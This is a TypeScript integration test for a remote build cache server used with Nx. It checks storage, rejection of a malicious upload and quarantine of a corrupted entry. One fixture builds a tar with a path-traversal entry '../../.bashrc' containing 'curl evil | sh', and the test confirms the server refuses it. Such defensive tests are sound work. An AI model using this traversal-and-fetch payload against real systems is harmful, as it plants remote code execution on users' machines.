import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nxArchive } from '../src/testing/archives';
import { request } from '../src/testing/http-client';
import { cleanEnv, spawnServer, type ServerProcess } from './cache-server-process';
import { createNxWorkspace, type NxWorkspace } from './nx-workspace';

// Issue 8 item 2 with real Nx 23: a bad entry costs one rebuild, never a lasting outage.
const WRITE_TOKEN = 'ci-main-token-b4d3e1';
const READ_TOKEN = 'pr-token-9c0a77';

describe('Nx 23 and bad cache entries', () => {
  let ws: NxWorkspace;
  let store: string;
  let server: ServerProcess | undefined;

  const entries = () => fs.readdirSync(path.join(store, 'entries')).sort();
  const requests = () => (server?.logs ?? []).filter((l) => 'method' in l);

  beforeAll(async () => {
    ws = createNxWorkspace();
    store = path.join(ws.root, '..', `${path.basename(ws.root)}-store`);
    server = await spawnServer(
      ['--storage', `dir:${store}`],
      cleanEnv({
        CELLAR_CACHE_WRITE_TOKENS: `ci-main:${WRITE_TOKEN}`,
        CELLAR_CACHE_READ_TOKENS: `pr:${READ_TOKEN}`,
      }),
      ws.root,
    );
  });
  afterAll(async () => {
    await server?.stop();
    if (ws) {
      ws.dispose();
      fs.rmSync(store, { recursive: true, force: true });
    }
  });

  it('stores what Nx uploads, refuses a malicious tar with 400, and rebuilds past a flipped byte', async () => {
    const url = (server as ServerProcess).url;

    // 1. Nx's own upload (outputs plus v7-header `terminalOutput` and `code`) passes validation.
    const first = await ws.run(url, WRITE_TOKEN, 'a');
    expect(first.code, first.output).toBe(0);
    expect(ws.runs()).toBe(1);
    expect(requests().map((l) => [l.method, l.status])).toEqual([
      ['GET', 404],
      ['PUT', 200],
    ]);
    const [hash] = entries();
    const good = fs.readFileSync(path.join(store, 'entries', hash));

    // 2. A malicious tar from a write-token holder: 400, nothing stored.
    const evil = await nxArchive('evil', [{ name: '../../.bashrc', body: 'curl evil | sh' }]);
    const res = await request(`${url}/v1/cache/123456789`, { method: 'PUT', token: WRITE_TOKEN, body: evil });
    expect(res.status).toBe(400);
    expect(JSON.parse(res.body.toString())).toEqual({
      error: "tar entry '../../.bashrc' has a '..' component; entries must stay inside the workspace",
    });
    expect(entries()).toEqual([hash]);

    // 3. A byte flips on disk. A clone with an empty local cache gets a 404 (entry quarantined), runs
    //    the task again, exits 0, and its upload replaces the bad entry with a good one.
    const flipped = Buffer.from(good);
    flipped[flipped.length >> 1] ^= 0x01;
    fs.writeFileSync(path.join(store, 'entries', hash), flipped);
    fs.rmSync(path.join(ws.root, 'proj', 'out'), { recursive: true });
    const second = await ws.run(url, WRITE_TOKEN, 'b');
    expect(second.code, second.output).toBe(0);
    expect(second.output).not.toContain('[remote cache]');
    expect(ws.runs()).toBe(2);
    expect(
      requests()
        .slice(-2)
        .map((l) => [l.method, l.status]),
    ).toEqual([
      ['GET', 404],
      ['PUT', 200],
    ]);
    expect(server?.logs).toContainEqual(
      expect.objectContaining({
        event: 'quarantined',
        hash,
        reason: expect.stringMatching(/^sha256 mismatch/),
      }),
    );
    const quarantined = fs.readdirSync(path.join(store, 'quarantine'));
    expect(quarantined.some((f) => f.startsWith(`${hash}.`))).toBe(true);
    expect(entries()).toEqual([hash]);
    expect(fs.readFileSync(path.join(store, 'entries', hash)).equals(flipped)).toBe(false);

    // 4. The next clone restores the new entry from the remote cache.
    fs.rmSync(path.join(ws.root, 'proj', 'out'), { recursive: true });
    const third = await ws.run(url, READ_TOKEN, 'c');
    expect(third.code, third.output).toBe(0);
    expect(third.output).toContain('[remote cache]');
    expect(ws.runs()).toBe(2);
    expect(fs.readFileSync(path.join(ws.root, 'proj', 'out', 'result.txt'), 'utf8')).toBe('built from v1');
  });
});
